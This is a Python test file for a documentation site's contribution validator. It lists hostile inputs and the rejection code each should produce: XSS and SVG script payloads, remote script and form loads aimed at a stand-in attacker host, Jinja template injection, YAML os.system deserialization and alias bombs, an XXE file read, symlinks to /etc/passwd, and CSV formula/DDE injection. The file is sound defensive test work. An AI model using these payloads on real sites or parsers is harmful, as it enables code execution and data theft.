"""Hostile contributions: what each one tries, and the code with which it is refused.

A case is a function that spoils a copy of the good example; its key is its name in the test report.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

Spoil = Callable[[Path], None]
HEAD = (
    "---\ntitle: Halaman uji\ndescription: Halaman yang mencoba merusak.\n---\n\n# Halaman uji\n\n"
)


def page(body: str) -> Spoil:
    """A new page with this body."""
    return lambda root: (
        (root / "docs/uji.md").write_text(HEAD + body + "\n", encoding="utf-8") and None
    )


def raw_page(text: str | bytes) -> Spoil:
    """A new page with exactly these contents."""
    content = text if isinstance(text, bytes) else text.encode()
    return lambda root: (root / "docs/uji.md").write_bytes(content) and None


def file(name: str, content: str | bytes) -> Spoil:
    """A new or replaced file."""

    def spoil(root: Path) -> None:
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode())

    return spoil


def symlink(name: str, target: str) -> Spoil:
    """A symbolic link."""

    def spoil(root: Path) -> None:
        (root / name).unlink(missing_ok=True)
        (root / name).symlink_to(target)

    return spoil


def whole_folder(name: str, target: str) -> Spoil:
    """A folder of the project as a symbolic link to one elsewhere."""

    def spoil(root: Path) -> None:
        (root / name).rename(root / f"{name}-semula")
        (root / name).symlink_to(target)

    return spoil


def cell(table: str, column: str, value: str) -> Spoil:
    """The first row of a table with another value in a column."""

    def spoil(root: Path) -> None:
        import csv

        path = root / "data" / table
        with path.open(encoding="utf-8", newline="") as stream:
            rows = list(csv.reader(stream))
        rows[1][rows[0].index(column)] = value
        with path.open("w", encoding="utf-8", newline="") as stream:
            csv.writer(stream, lineterminator="\n").writerows(rows)

    return spoil


SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1">{}</svg>'
_BILLION = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + at)}: &{chr(98 + at)} [{', '.join([f'*{chr(97 + at)}'] * 10)}]\n" for at in range(8)
)

CASES: dict[str, tuple[str, Spoil]] = {
    # Scripts and handlers in pages.
    "script": ("html-dilarang", page("<script>alert(1)</script>")),
    "script-besar": ("html-dilarang", page("<SCRIPT SRC=https://jahat.example/x.js></SCRIPT>")),
    "script-tak-ditutup": ("html-dilarang", page("<script src=//jahat.example/x.js")),
    "onerror": ("html-dilarang", page('<img src="x" onerror="alert(1)">')),
    "onclick-div": ("html-dilarang", page('<div onclick="alert(1)">x</div>')),
    "svg-sebaris": ("html-dilarang", page("<svg/onload=alert(1)>")),
    "math-sebaris": (
        "html-dilarang",
        page('<math><a xlink:href="javascript:alert(1)">x</a></math>'),
    ),
    "iframe": ("html-dilarang", page('<iframe src="https://jahat.example"></iframe>')),
    "object": ("html-dilarang", page('<object data="x.html"></object>')),
    "embed": ("html-dilarang", page('<embed src="x.swf">')),
    "style-elemen": ("html-dilarang", page("<style>body{display:none}</style>")),
    "style-atribut": ("html-dilarang", page('<div style="position:fixed;inset:0">x</div>')),
    "link-elemen": (
        "html-dilarang",
        page('<link rel="stylesheet" href="https://jahat.example/x.css">'),
    ),
    "meta-refresh": (
        "html-dilarang",
        page('<meta http-equiv="refresh" content="0;url=https://jahat.example">'),
    ),
    "base": ("html-dilarang", page('<base href="https://jahat.example/">')),
    "form": (
        "html-dilarang",
        page('<form action="https://jahat.example"><input name="sandi"></form>'),
    ),
    "template": ("html-dilarang", page("<template><script>alert(1)</script></template>")),
    "noscript": (
        "html-dilarang",
        page('<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ),
    "video": ("html-dilarang", page('<video src="https://jahat.example/x.mp4"></video>')),
    "details-ontoggle": ("html-dilarang", page('<details ontoggle="alert(1)" open>x</details>')),
    "kelas-tema": ("html-kelas", page('<div class="md-overlay">x</div>')),
    "penutup-div": ("html-tak-seimbang", page("</div></div></div>")),
    "komentar-bersyarat": ("html-dilarang", page("<![if IE]><b>x</b>")),
    "perintah-xml": ("html-dilarang", page('<?php system("id"); ?>')),
    # Attributes behind an element.
    "kurawal-onclick": ("atribut-dilarang", page('[x](index.md){ onclick="alert(1)" }')),
    "kurawal-style": ("atribut-dilarang", page('Teks\n{: style="position:fixed" }')),
    "kurawal-kelas-tema": ("html-kelas", page("Teks\n{: .md-overlay }")),
    "judul-onmouseover": ("atribut-dilarang", page("## Judul { onmouseover=alert(1) }")),
    # Addresses.
    "tautan-javascript": ("alamat-dilarang", page("[x](javascript:alert(1))")),
    "tautan-javascript-campur": ("alamat-dilarang", page("[x](JaVaScRiPt:alert(1))")),
    "tautan-javascript-entitas": ("alamat-dilarang", page("[x](java&#115;cript:alert(1))")),
    "tautan-javascript-tab": ("alamat-dilarang", page("[x](java&Tab;script:alert(1))")),
    "tautan-data": ("alamat-dilarang", page("[x](data:text/html,<b>1</b>)")),
    "tautan-vbscript": ("alamat-dilarang", page("[x](vbscript:msgbox)")),
    "tautan-berkas": ("alamat-dilarang", page("[x](file:///etc/passwd)")),
    "tautan-tanpa-skema": ("alamat-dilarang", page("[x](//jahat.example/)")),
    "tautan-garis-miring-balik": ("alamat-dilarang", page("[x](/\\jahat.example/)")),
    "rujukan-javascript": ("alamat-dilarang", page("[x][y]\n\n[y]: javascript:alert(1)")),
    "tautan-otomatis": ("alamat-dilarang", page("<javascript:alert(1)>")),
    "gambar-luar": ("gambar-luar", page("![x](https://jahat.example/pelacak.png)")),
    "gambar-luar-rujukan": ("gambar-luar", page("![x][y]\n\n[y]: https://jahat.example/p.png")),
    "gambar-data": ("alamat-dilarang", page("![x](data:image/svg+xml;base64,PHN2Zz4=)")),
    "gambar-luar-tanpa-skema": ("alamat-dilarang", page("![x](//jahat.example/p.png)")),
    # Jinja.
    "jinja-config": ("makro-bukan-panggilan", page("{{ config }}")),
    "jinja-kelas": (
        "makro-bukan-panggilan",
        page("{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ),
    "jinja-import": ("makro-tak-dikenal", page('{{ __import__("os") }}')),
    "jinja-makro-dunder": ("makro-bukan-panggilan", page("{{ kutipan.__globals__ }}")),
    "jinja-perulangan": ("jinja-perintah", page("{% for i in range(10000000) %}x{% endfor %}")),
    "jinja-include": ("jinja-perintah", page("{% include '/etc/passwd' %}")),
    "jinja-set": ("jinja-perintah", page("{% set x = 1 %}")),
    "jinja-hitungan": ("makro-argumen-bukan-nilai", page('{{ kutipan("a" * 1000000000) }}')),
    "jinja-bintang": ("makro-argumen-bukan-nilai", page('{{ kutipan(*["x"]) }}')),
    "jinja-banyak": ("tanda-terlalu-banyak", page("{{ glosarium() }}\n\n" * 500)),
    # The head of a page.
    "kepala-templat": (
        "kepala-tak-dikenal",
        raw_page("---\ntitle: Uji\ndescription: Uji.\ntemplate: main.html\n---\n\n# Uji\n"),
    ),
    "kepala-makro": (
        "kepala-tak-dikenal",
        raw_page("---\ntitle: Uji\ndescription: Uji.\nrender_macros: false\n---\n\n# Uji\n"),
    ),
    "kepala-python": (
        "kepala-rusak",
        raw_page('---\ntitle: !!python/object/apply:os.system ["id"]\n---\n\n# Uji\n'),
    ),
    "kepala-dalam": (
        "sarang-terlalu-dalam",
        raw_page("---\ntitle: " + " " * 9000 + "[\n" + " " * 900 + "x\n---\n"),
    ),
    # Time and memory.
    "halaman-raksasa": ("berkas-terlalu-besar", page("kata " * 200_000)),
    "baris-panjang": ("baris-terlalu-panjang", page("a" * 50_000)),
    "kurung-panjang": ("rentetan-tanda", page("[" * 10_000)),
    "bintang-panjang": ("rentetan-tanda", page("*" * 5_000)),
    "kutipan-dalam": ("rentetan-tanda", page(">" * 5_000 + " x")),
    "daftar-dalam": (
        "sarang-terlalu-dalam",
        page("\n".join(" " * 4 * at + "- x" for at in range(200))),
    ),
    "komentar-banyak": ("tanda-terlalu-banyak", page("<!-- " * 2_000)),
    "halaman-daftar-sebaris": ("sarang-terlalu-dalam", page("- " * 300 + "x")),
    "halaman-kutipan-sebaris": ("sarang-terlalu-dalam", page("> 1. " * 40 + "x")),
    "yaml-dalam": ("sarang-terlalu-dalam", file("data/bidang.yml", "[" * 200_000)),
    "yaml-dalam-blok": ("sarang-terlalu-dalam", file("data/bidang.yml", "- " * 5_000 + "x\n")),
    "yaml-dalam-inden": (
        "sarang-terlalu-dalam",
        file("data/bidang.yml", "".join(f"{'  ' * at}a:\n" for at in range(900))),
    ),
    "yaml-bom-alias": ("yaml-rusak", file("data/bidang.yml", _BILLION)),
    "yaml-python": (
        "yaml-rusak",
        file("data/padanan.yml", '!!python/object/apply:os.system ["id"]\n'),
    ),
    "yaml-alias-diri": ("yaml-rusak", file("data/padanan.yml", "padanan: &a [*a]\n")),
    "skema-python": (
        "skema-bukan-milik-data",
        file("data/skema/opd.yml", '!!python/object/apply:os.system ["id"]\n'),
    ),
    "skema-ke-luar": (
        "skema-bukan-milik-data",
        file("data/skema/opd.yml", "name: opd\npath: ../../../../../../etc/passwd\n"),
    ),
    "skema-ke-akar": (
        "skema-bukan-milik-data",
        file("data/skema/opd.yml", "name: opd\npath: /etc/passwd\n"),
    ),
    "skema-jaringan": (
        "skema-bukan-milik-data",
        file("data/skema/edisi.yml", 'jsonSchema: {$ref: "http://127.0.0.1:9/x.json"}\n'),
    ),
    "skema-berkas": (
        "skema-bukan-milik-data",
        file("data/skema/edisi.yml", 'jsonSchema: {$ref: "file:///etc/passwd"}\n'),
    ),
    "skema-pola-mundur": (
        "skema-bukan-milik-data",
        file("data/skema/program.yml", "pattern: '([a-zA-Z ,]+)+!'\n"),
    ),
    "skema-pola-rusak": (
        "skema-bukan-milik-data",
        file("data/skema/program.yml", "pattern: 'PPM-(\\d{4'\n"),
    ),
    "csv-raksasa": (
        "berkas-terlalu-besar",
        file("data/opd.csv", b"kode,nama\n" + b"a,b\n" * 5_000_000),
    ),
    "csv-nul": ("bita-nol", file("data/opd.csv", b"kode\x00,nama\n")),
    "gambar-raksasa": (
        "berkas-terlalu-besar",
        file("docs/besar.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 5_000_000),
    ),
    # The file system.
    "tautan-simbolik-halaman": ("tautan-simbolik", symlink("docs/rahasia.md", "/etc/passwd")),
    "tautan-simbolik-data": ("tautan-simbolik", symlink("data/opd.csv", "/etc/hostname")),
    "tautan-simbolik-tanpa-akhir": ("tautan-simbolik", symlink("data/nol.csv", "/dev/zero")),
    "tautan-simbolik-folder": ("tautan-simbolik", symlink("docs/akar", "/")),
    "tautan-simbolik-putus": ("tautan-simbolik", symlink("docs/putus.md", "tidak-ada.md")),
    "tautan-simbolik-semua-halaman": ("tautan-simbolik", whole_folder("docs", "/etc")),
    "tautan-simbolik-semua-data": ("tautan-simbolik", whole_folder("data", "/etc")),
    "tautan-simbolik-menu": ("tautan-simbolik", symlink("mkdocs.yml", "/etc/passwd")),
    "menu-dalam": ("sarang-terlalu-dalam", file("mkdocs.yml", "nav: " + "[" * 100_000)),
    "html-utuh": ("berkas-halaman-asing", file("docs/jahat.html", "<script>alert(1)</script>")),
    "skrip-utuh": ("berkas-halaman-asing", file("docs/jahat.js", "alert(1)")),
    "python-utuh": ("berkas-halaman-asing", file("docs/jahat.py", "import os")),
    "gambar-palsu": ("gambar-palsu", file("docs/x.png", "<script>alert(1)</script>")),
    # SVG.
    "svg-script": ("svg-berbahaya", file("docs/x.svg", SVG.format("<script>alert(1)</script>"))),
    "svg-onload": ("svg-berbahaya", file("docs/x.svg", SVG.format('<rect onload="alert(1)"/>'))),
    "svg-foreignobject": ("svg-berbahaya", file("docs/x.svg", SVG.format("<foreignObject/>"))),
    "svg-gambar-luar": (
        "svg-berbahaya",
        file("docs/x.svg", SVG.format('<image href="https://jahat.example/p.png"/>')),
    ),
    "svg-use-luar": (
        "svg-berbahaya",
        file("docs/x.svg", SVG.format('<use href="https://jahat.example/x.svg#a"/>')),
    ),
    "svg-style-impor": (
        "svg-berbahaya",
        file("docs/x.svg", SVG.format("<style>@import url(https://jahat.example)</style>")),
    ),
    "svg-fill-luar": (
        "svg-berbahaya",
        file("docs/x.svg", SVG.format('<rect fill="url(https://jahat.example/#a)"/>')),
    ),
    "svg-animasi": (
        "svg-berbahaya",
        file("docs/x.svg", SVG.format('<animate attributeName="href" to="javascript:alert(1)"/>')),
    ),
    "svg-tautan": (
        "svg-berbahaya",
        file("docs/x.svg", SVG.format('<a href="javascript:alert(1)"><rect/></a>')),
    ),
    "svg-entitas": (
        "svg-berbahaya",
        file(
            "docs/x.svg",
            '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + SVG.format("&a;"),
        ),
    ),
    "svg-entitas-utf16": (
        "svg-berbahaya",
        file(
            "docs/x.svg", ('<!DOCTYPE svg [<!ENTITY a "x">]>' + SVG.format("&a;")).encode("utf-16")
        ),
    ),
    "svg-lembar-gaya": (
        "svg-berbahaya",
        file(
            "docs/x.svg", '<?xml-stylesheet href="https://jahat.example/x.css"?>' + SVG.format("")
        ),
    ),
    "svg-rusak": ("svg-rusak", file("docs/x.svg", "<svg><rect></svg>")),
    # Cells.
    "rumus-excel": ("rumus", cell("opd.csv", "nama", '=HYPERLINK("https://jahat.example")')),
    "rumus-dde": ("rumus", cell("opd.csv", "nama", "@SUM(1+1)*cmd|' /C calc'!A0")),
    "url-javascript": ("bukan-alamat", cell("sumber.csv", "url", "javascript:alert(1)")),
    "url-data": ("bukan-alamat", cell("sumber.csv", "url", "data:text/html,x")),
    "arah-teks": ("karakter-tak-tampak", cell("opd.csv", "nama", "Dinas \u202enanauggna")),
    "huruf-tak-tampak": ("karakter-tak-tampak", cell("opd.csv", "nama", "Dinas\u200bPendidikan")),
    "html-di-sel": ("kode-html", cell("opd.csv", "nama", "<script>alert(1)</script>")),
    "kutip-di-sel": ("kode-html", cell("opd.csv", "nama", '"><img src=x onerror=alert(1)>')),
    "jinja-di-sel": ("makro-di-data", cell("opd.csv", "nama", "{{ config }}")),
    "token-palsu": ("karakter-privat", page("\ue000" + "0" * 32 + "\ue001")),
}

# Texts that stay harmless because they are shown, not run: accepted, and escaped on the page.
HARMLESS: dict[str, Spoil] = {
    "markdown-di-sel": cell("opd.csv", "nama", "[x](javascript:alert(1))"),
    "kode-di-halaman": page(
        "Contoh: `<script>alert(1)</script>`\n\n```html\n<iframe></iframe>\n```"
    ),
}
